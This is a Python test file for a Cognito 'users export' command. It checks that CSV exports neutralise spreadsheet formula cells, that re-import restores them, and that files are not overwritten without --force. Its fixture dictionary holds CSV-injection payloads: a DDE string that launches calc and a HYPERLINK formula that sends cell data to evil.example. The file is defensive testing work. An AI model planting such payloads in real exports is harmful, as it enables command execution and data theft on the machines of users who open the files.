"""``users export``: formula-like cells are neutralised in every CSV format, re-import restores
them exactly, tabs are kept, and an existing file is never overwritten without ``--force``."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

from tests.ops.conftest import attributes_of, invoke, make_pool

#: given_name values a user (or an attacker) could have put in their profile
HOSTILE = {
    "calc": "=cmd|' /C calc'!A0",
    "link": '+HYPERLINK("http://evil.example/?x="&A1,"click")',
    "sum": "@SUM(1+1)",
    "minus": "-2+3",
    "quoted": "'already quoted",
    "plain": "Alice",
}
TABBED = "\tTabbed"


def _seed(cognito: Any, pool_id: str) -> None:
    for username, given_name in [*HOSTILE.items(), ("tabbed", TABBED)]:
        cognito.admin_create_user(
            UserPoolId=pool_id,
            Username=username,
            MessageAction="SUPPRESS",
            UserAttributes=[
                {"Name": "email", "Value": f"{username}@example.com"},
                {"Name": "email_verified", "Value": "true"},
                {"Name": "given_name", "Value": given_name},
            ],
        )


def _export(pool_id: str, out: Path, *extra: str) -> Any:
    return invoke("users", "export", "--pool-id", pool_id, "--out", str(out), "-o", "json", *extra)


def _given_names(path: Path) -> dict[str, str]:
    rows = csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"), newline=""))
    return {row["username"]: row["given_name"] for row in rows}


def test_csv_export_neutralises_formulas_and_reimport_restores_them(
    cognito: Any, pool_id: str, tmp_path: Path
) -> None:
    _seed(cognito, pool_id)
    out = tmp_path / "users.csv"
    result = _export(pool_id, out)
    assert result.exit_code == 0, result.output
    header = out.read_text(encoding="utf-8").splitlines()[0].split(",")
    assert header[-1] == "#cells:quoted"
    cells = _given_names(out)
    assert cells["calc"] == "'=cmd|' /C calc'!A0"
    assert cells["link"].startswith("'+HYPERLINK(")
    assert cells["sum"] == "'@SUM(1+1)"
    assert cells["minus"] == "'-2+3"
    assert cells["quoted"] == "''already quoted"  # so the import can tell it from an added quote
    assert cells["plain"] == "Alice"
    assert cells["tabbed"] == "'" + TABBED  # the tab is kept
    notes = json.loads(result.stdout)["notes"]
    assert any("5 cell(s) starting with = + - @ tab or CR" in note for note in notes)

    target = make_pool(cognito, PoolName="restore")
    restored = invoke("users", "import", str(out), "--pool-id", target, "-o", "json")
    assert restored.exit_code == 0, restored.output
    for username, given_name in HOSTILE.items():
        assert attributes_of(cognito, target, username)["given_name"] == given_name


def test_a_hand_made_csv_without_the_marker_is_read_as_it_is(
    cognito: Any, pool_id: str, tmp_path: Path
) -> None:
    source = tmp_path / "hand.csv"
    source.write_text("username,email,given_name\nann,ann@example.com,'Quoted\n", encoding="utf-8")
    assert invoke("users", "import", str(source), "--pool-id", pool_id).exit_code == 0
    assert attributes_of(cognito, pool_id, "ann")["given_name"] == "'Quoted"


def test_cognito_import_layout_is_neutralised_and_keeps_tabs(
    cognito: Any, pool_id: str, tmp_path: Path
) -> None:
    _seed(cognito, pool_id)
    out = tmp_path / "job.csv"
    assert _export(pool_id, out, "--format", "cognito-import").exit_code == 0
    lines = out.read_text(encoding="utf-8").splitlines()
    column = lines[0].split(",").index("given_name")
    by_user = {line.rsplit(",", 1)[-1]: line.split(",")[column] for line in lines[1:]}
    assert by_user["calc"] == "'=cmd|' /C calc'!A0"
    assert by_user["sum"] == "'@SUM(1+1)"
    assert by_user["tabbed"] == "'\tTabbed"  # not stripped
    assert by_user["quoted"] == "'already quoted"  # no marker there: nothing to escape
    assert all(
        not cell.startswith(("=", "+", "-", "@")) for line in lines for cell in line.split(",")
    )


def test_raw_cells_writes_cells_as_they_are(cognito: Any, pool_id: str, tmp_path: Path) -> None:
    _seed(cognito, pool_id)
    out = tmp_path / "raw.csv"
    assert _export(pool_id, out, "--raw-cells").exit_code == 0
    assert "#cells:quoted" not in out.read_text(encoding="utf-8").splitlines()[0]
    cells = _given_names(out)
    assert cells["calc"] == HOSTILE["calc"]
    assert cells["quoted"] == HOSTILE["quoted"]
    assert cells["tabbed"] == TABBED


def test_jsonl_export_is_not_altered(cognito: Any, pool_id: str, tmp_path: Path) -> None:
    _seed(cognito, pool_id)
    out = tmp_path / "users.jsonl"
    assert _export(pool_id, out, "--format", "jsonl").exit_code == 0
    records = {
        r["username"]: r for r in map(json.loads, out.read_text(encoding="utf-8").splitlines())
    }
    assert records["calc"]["given_name"] == HOSTILE["calc"]


def test_export_refuses_to_overwrite_without_force(
    cognito: Any, pool_id: str, tmp_path: Path
) -> None:
    _seed(cognito, pool_id)
    out = tmp_path / "users.csv"
    out.write_text("an earlier backup\n", encoding="utf-8")
    refused = _export(pool_id, out)
    assert refused.exit_code == 2
    assert json.loads(refused.stderr) == {
        "error": f"--out {out}: the file exists; pass --force to replace it",
        "exitCode": 2,
    }
    assert out.read_text(encoding="utf-8") == "an earlier backup\n"
    assert not out.with_name("users.csv.partial").exists()
    assert _export(pool_id, out, "--force").exit_code == 0
    assert "calc" in _given_names(out)
